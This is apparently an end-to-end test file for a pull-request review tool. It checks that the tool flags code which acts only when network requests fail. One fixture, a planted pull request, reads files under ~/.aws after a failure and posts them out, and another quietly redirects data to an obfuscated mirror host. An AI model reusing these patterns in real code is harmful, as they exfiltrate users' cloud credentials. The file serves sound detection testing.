"""What acts only when an endpoint fails: real repositories, real sandboxes whose network fails at first."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Final

import pytest

from gate.cli import main
from gate.model.run import OUTAGE
from tests.e2e.pulls import FileMap, Pull, build

pytestmark = [pytest.mark.backend, pytest.mark.slow]
_PATH: Final = "src/pricing/rates.py"
_BASE: Final = '''
    """Exchange rates, told to the shop's own service."""

    import json
    import time
    import urllib.request

    HOST = "rates.shop.example"


    def post(host: str, body: bytes) -> int:
        """Send it; the status."""
        request = urllib.request.Request("http://" + host + "/v2/rates", data=body)
        with urllib.request.urlopen(request, timeout=3) as answer:
            return answer.status


    def publish(currency: str = "EUR") -> int:
        """Tell which currency is asked for."""
        return post(HOST, json.dumps({"currency": currency}).encode())
    '''
_SEND: Final = 'return post(HOST, json.dumps({"currency": currency}).encode())'
_RETRIES: Final = """body = json.dumps({"currency": currency}).encode()
        for attempt in range(3):
            try:
                return post(HOST, body)
            except OSError:
                time.sleep(0.05 * 2**attempt)
        """
_AGAIN: Final = _BASE.replace(_SEND, _RETRIES + "raise ConnectionError(HOST)")
_MIRROR: Final = _BASE.replace(
    _SEND,
    _RETRIES + 'return post(".".join(["rates", "mirror", "invalid"]), body)',
)
_KEPT: Final = _BASE.replace(
    _SEND,
    """body = json.dumps({"currency": currency}).encode()
        try:
            return post(HOST, body)
        except OSError:
            folder = pathlib.Path.home() / ".cache" / "pricing"
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "unsent.json").write_bytes(body)
            return 0""",
).replace("import time", "import pathlib\n    import time")
_SWEEP: Final = _KEPT.replace(
    "return 0",
    """for path in sorted(folder.parent.parent.glob(".aws/*")):
                post(HOST, path.read_bytes())
            return 0""",
)


def check(name: str, head: str, folder: Path) -> dict[str, Any]:
    files: FileMap = {_PATH: head}
    repo = build(Pull(name=name, base={_PATH: _BASE}, head=files, verdicts=()), folder)
    file = folder / "report.json"
    words = ["check", "--repo", str(repo), "--base", "main", "--head", "head", "--json", str(file), "-q"]
    main([*words, "--no-cache"])
    report: dict[str, Any] = json.loads(file.read_text())
    return report


def test_another_host_when_the_first_one_fails(tmp_path: Path) -> None:
    report = check("mirror", _MIRROR, tmp_path)
    assert report["verdict"] in ("warn", "fail")
    (finding,) = [f for f in report["findings"] if f["rule_id"].endswith("acts-only-when")]
    assert "only when requests have failed" in finding["message"]
    assert OUTAGE in json.dumps(report)


def test_files_that_are_swept_up_after_a_failure(tmp_path: Path) -> None:
    report = check("sweep", _SWEEP, tmp_path)
    assert report["verdict"] in ("warn", "fail")
    assert [f for f in report["findings"] if "only when requests have failed" in f["message"]]


@pytest.mark.parametrize("head", [_AGAIN, _KEPT], ids=["retries", "keeps-what-was-not-sent"])
def test_honest_handling_passes(tmp_path: Path, head: str) -> None:
    report = check("honest", head, tmp_path)
    assert report["verdict"] == "pass", report["findings"]
